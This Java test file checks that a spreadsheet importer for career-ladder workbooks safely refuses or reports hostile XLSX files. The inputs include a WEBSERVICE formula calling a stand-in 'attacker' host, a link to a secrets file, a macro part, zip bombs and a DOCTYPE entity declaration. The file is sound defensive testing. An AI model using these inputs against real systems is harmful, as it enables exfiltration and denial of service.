package dev.ladder.sheets;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ladder.model.Severity;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each hostile workbook gives a clear finding with its sheet and cell, and never an exception. */
class HostileWorkbookTest {
  @TempDir Path dir;

  private static final List<List<String>> PLAIN =
      List.of(List.of("Dimension", "Engineer"), List.of("Delivery", "Ships small changes"));

  private ImportResult importing(Path file) {
    return Sheets.importLadder(file, ImportOptions.defaults());
  }

  private static List<String> lines(ImportResult result) {
    return result.findings().stream().map(SheetFinding::toString).toList();
  }

  @Test
  void a_formula_is_never_evaluated_its_saved_value_is_read_with_a_warning_at_its_cell()
      throws IOException {
    Path file =
        Workbooks.create()
            .rawSheet(
                "IC",
                "<row r=\"1\">"
                    + Workbooks.inline("A1", "Dimension")
                    + Workbooks.inline("B1", "Engineer")
                    + "</row>"
                    + "<row r=\"2\">"
                    + Workbooks.inline("A2", "Delivery")
                    + "<c r=\"B2\" t=\"str\"><f>CONCATENATE(\"Ships \",\"small changes\")</f><v>Ships small changes</v></c></row>"
                    + "<row r=\"3\">"
                    + Workbooks.inline("A3", "People")
                    + "<c r=\"B3\"><f>WEBSERVICE(\"http://attacker/\")</f></c></row>",
                "")
            .write(dir.resolve("formulas.xlsx"));
    ImportResult result = importing(file);
    assertThat(lines(result))
        .containsExactly(
            "formulas.xlsx: IC!B2: warning: the cell holds the formula =CONCATENATE(\"Ships \",\"small changes\"); formulas are never evaluated: its saved value \"Ships small changes\" is read [formula]",
            "formulas.xlsx: IC!B3: error: the cell holds the formula =WEBSERVICE(\"http://attacker/\") with no saved value; formulas are never evaluated: type the text in instead [formula]");
    assertThat(result.ladder().orElseThrow().levels().get(0).ownExpectations())
        .extracting(e -> e.text())
        .containsExactly("Ships small changes");
  }

  @Test
  void an_external_link_is_reported_and_never_followed() throws IOException {
    Path file =
        Workbooks.create()
            .sheet("IC", PLAIN)
            .entry(
                "xl/externalLinks/externalLink1.xml",
                "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>")
            .entry(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\" Target=\"file:///C:/secrets/budget.xlsx\" TargetMode=\"External\"/></Relationships>")
            .write(dir.resolve("linked.xlsx"));
    ImportResult result = importing(file);
    assertThat(lines(result))
        .containsExactly(
            "linked.xlsx: warning: the workbook links to file:///C:/secrets/budget.xlsx; links are never followed: cells keep the values saved in this file [external-link]");
    assertThat(result.ladder()).isPresent();
  }

  @Test
  void a_workbook_with_macros_is_refused_by_its_name_or_by_its_vba_part() throws IOException {
    Path xlsm = Workbooks.create().sheet("IC", PLAIN).write(dir.resolve("ladder.xlsm"));
    assertThat(lines(importing(xlsm)))
        .containsExactly(
            "ladder.xlsm: error: a workbook with macros (.xlsm); macros are never run: save it as an .xlsx workbook without macros and import that [macros]");
    Path hidden =
        Workbooks.create()
            .sheet("IC", PLAIN)
            .entry("xl/vbaProject.bin", new byte[] {1, 2, 3})
            .write(dir.resolve("ladder.xlsx"));
    ImportResult result = importing(hidden);
    assertThat(lines(result))
        .containsExactly(
            "ladder.xlsx: xl/vbaProject.bin: error: the workbook holds macros (xl/vbaProject.bin); macros are never run: save it as an .xlsx workbook without macros and import that [macros]");
    assertThat(result.ladder()).isEmpty();
  }

  @Test
  void a_zip_bomb_is_stopped_by_the_entry_size_before_the_library_inflates_it() throws IOException {
    Path file =
        Workbooks.create()
            .sheet("IC", PLAIN)
            .entry("xl/media/zeros.bin", new byte[0])
            .write(dir.resolve("bomb.xlsx"));
    // Rewrite the zip with one entry of 300 MiB of zeros (about 300 KiB compressed).
    Path bomb = dir.resolve("big.xlsx");
    try (OutputStream out = Files.newOutputStream(bomb);
        ZipOutputStream zip = new ZipOutputStream(out)) {
      copyEntries(file, zip);
      zip.putNextEntry(new ZipEntry("xl/media/zeros.bin"));
      byte[] block = new byte[1 << 20];
      for (int i = 0; i < 300; i++) {
        zip.write(block);
      }
      zip.closeEntry();
    }
    ImportResult result = importing(bomb);
    assertThat(result.findings())
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.ERROR);
              assertThat(f.code()).isEqualTo("zip-bomb");
              assertThat(f.where()).isEqualTo("xl/media/zeros.bin");
            });
    assertThat(result.ladder()).isEmpty();
  }

  @Test
  void a_zip_bomb_under_the_size_limit_is_stopped_by_the_compression_ratio() throws IOException {
    Path bomb = dir.resolve("ratio.xlsx");
    Path plain = Workbooks.create().sheet("IC", PLAIN).write(dir.resolve("plain.xlsx"));
    try (OutputStream out = Files.newOutputStream(bomb);
        ZipOutputStream zip = new ZipOutputStream(out)) {
      copyEntries(plain, zip);
      zip.putNextEntry(new ZipEntry("xl/media/zeros.bin"));
      zip.write(new byte[20 << 20]);
      zip.closeEntry();
    }
    ImportResult result = importing(bomb);
    assertThat(lines(result))
        .singleElement()
        .asString()
        .startsWith(
            "ratio.xlsx: xl/media/zeros.bin: error: the entry inflates more than 100 times its compressed size")
        .endsWith("[zip-bomb]");
  }

  @Test
  void a_million_rows_stop_at_the_row_limit_in_bounded_time() throws IOException {
    Path file = dir.resolve("rows.xlsx");
    Path plain = Workbooks.create().sheet("IC", PLAIN).write(dir.resolve("plain.xlsx"));
    try (OutputStream out = Files.newOutputStream(file);
        ZipOutputStream zip = new ZipOutputStream(out)) {
      copyEntries(plain, zip, "xl/worksheets/sheet1.xml");
      zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
      zip.write(
          "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
              .getBytes(StandardCharsets.UTF_8));
      StringBuilder rows = new StringBuilder();
      for (int r = 1; r <= 1_000_000; r++) {
        rows.append("<row r=\"")
            .append(r)
            .append("\"><c r=\"B")
            .append(r)
            .append("\" t=\"inlineStr\"><is><t>Row ")
            .append(r)
            .append("</t></is></c></row>");
        if (rows.length() > 1 << 16) {
          zip.write(rows.toString().getBytes(StandardCharsets.UTF_8));
          rows.setLength(0);
        }
      }
      zip.write(
          rows.append("</sheetData></worksheet>").toString().getBytes(StandardCharsets.UTF_8));
      zip.closeEntry();
    }
    long start = System.nanoTime();
    ImportResult result = importing(file);
    long millis = (System.nanoTime() - start) / 1_000_000;
    assertThat(lines(result))
        .containsExactly(
            "rows.xlsx: IC!A10001: error: more than 10000 rows: a ladder's sheet has a row per dimension or expectation; is this the right workbook? [too-many-rows]");
    assertThat(result.ladder()).isEmpty();
    assertThat(millis).as("stops at the limit, not at the end").isLessThan(20_000);
  }

  @Test
  void merged_cells_are_read_into_every_cell_of_the_range_with_a_warning() throws IOException {
    Path file =
        Workbooks.create()
            .rawSheet(
                "IC",
                "<row r=\"1\">"
                    + Workbooks.inline("A1", "Dimension")
                    + Workbooks.inline("B1", "Engineer")
                    + Workbooks.inline("C1", "Senior")
                    + "</row>"
                    + "<row r=\"2\">"
                    + Workbooks.inline("A2", "Delivery")
                    + Workbooks.inline("B2", "Ships small changes")
                    + "<c r=\"C2\"/></row>",
                "<mergeCells count=\"1\"><mergeCell ref=\"B2:C2\"/></mergeCells>")
            .write(dir.resolve("merged.xlsx"));
    ImportResult result = importing(file);
    assertThat(lines(result))
        .containsExactly(
            "merged.xlsx: IC!B2:C2: warning: merged cells are read as the same text in every cell of the range; unmerge them to say which levels expect it [merged-cells]");
    var levels = result.ladder().orElseThrow();
    assertThat(
            levels.effective(levels.levelsOf(levels.tracks().get(0).id()).get(1)).allExpectations())
        .extracting(e -> e.text())
        .containsExactly("Ships small changes");
  }

  @Test
  void empty_sheets_are_skipped_with_a_warning_and_a_workbook_of_nothing_else_is_an_error()
      throws IOException {
    Path file =
        Workbooks.create()
            .sheet("Notes", List.of())
            .sheet("IC", PLAIN)
            .write(dir.resolve("ladder.xlsx"));
    assertThat(lines(importing(file)))
        .containsExactly(
            "ladder.xlsx: Notes: warning: the sheet is empty; it is not imported [empty-sheet]");
    Path empty = Workbooks.create().sheet("Notes", List.of()).write(dir.resolve("empty.xlsx"));
    ImportResult result = importing(empty);
    assertThat(lines(result))
        .containsExactly(
            "empty.xlsx: Notes: warning: the sheet is empty; it is not imported [empty-sheet]",
            "empty.xlsx: error: no sheet holds a level: the first row holds the level titles from column B on, in rank order, and the first column the dimension names [no-levels]");
    assertThat(result.ladder()).isEmpty();
  }

  @Test
  void a_file_that_is_not_a_zip_or_an_old_xls_or_a_broken_zip_is_a_clear_error()
      throws IOException {
    Path text = Files.writeString(dir.resolve("notes.xlsx"), "Dimension,Engineer\n");
    assertThat(lines(importing(text)))
        .containsExactly(
            "notes.xlsx: error: not an XLSX workbook: an .xlsx file is a zip, and this one does not start as a zip does [not-a-workbook]");
    Path xls =
        Files.write(
            dir.resolve("old.xlsx"),
            new byte[] {
              (byte) 0xD0,
              (byte) 0xCF,
              0x11,
              (byte) 0xE0,
              (byte) 0xA1,
              (byte) 0xB1,
              0x1A,
              (byte) 0xE1,
              0,
              0
            });
    assertThat(lines(importing(xls)))
        .singleElement()
        .asString()
        .contains("an Excel 97-2003 (.xls) or password-protected workbook");
    Path broken = Files.write(dir.resolve("broken.xlsx"), new byte[] {'P', 'K', 3, 4, 1, 2, 3});
    assertThat(lines(importing(broken)))
        .singleElement()
        .asString()
        .startsWith("broken.xlsx: error: not a valid zip, so not an XLSX workbook");
    Path noWorkbook = dir.resolve("other.xlsx");
    try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(noWorkbook))) {
      zip.putNextEntry(new ZipEntry("readme.txt"));
      zip.write("hello".getBytes(StandardCharsets.UTF_8));
      zip.closeEntry();
    }
    assertThat(lines(importing(noWorkbook)))
        .containsExactly(
            "other.xlsx: error: the zip holds no xl/workbook.xml: it is not an XLSX workbook [not-a-workbook]");
  }

  @Test
  void a_document_type_declaration_is_refused_before_any_xml_reader_sees_it() throws IOException {
    Path file =
        Workbooks.create()
            .sheet("IC", PLAIN)
            .entry(
                "xl/sharedStrings.xml",
                "<?xml version=\"1.0\"?><!DOCTYPE lol [<!ENTITY lol \"lol\">]><sst/>")
            .write(dir.resolve("entities.xlsx"));
    assertThat(lines(importing(file)))
        .containsExactly(
            "entities.xlsx: xl/sharedStrings.xml: error: the part declares a document type (<!DOCTYPE); no workbook needs one, and entities are never expanded [doctype]");
  }

  private static void copyEntries(Path from, ZipOutputStream to, String... except)
      throws IOException {
    try (var zip = new java.util.zip.ZipFile(from.toFile())) {
      var entries = zip.entries();
      while (entries.hasMoreElements()) {
        ZipEntry e = entries.nextElement();
        if (List.of(except).contains(e.getName()) || e.getName().equals("xl/media/zeros.bin")) {
          continue;
        }
        to.putNextEntry(new ZipEntry(e.getName()));
        try (var in = zip.getInputStream(e)) {
          in.transferTo(to);
        }
        to.closeEntry();
      }
    }
  }
}
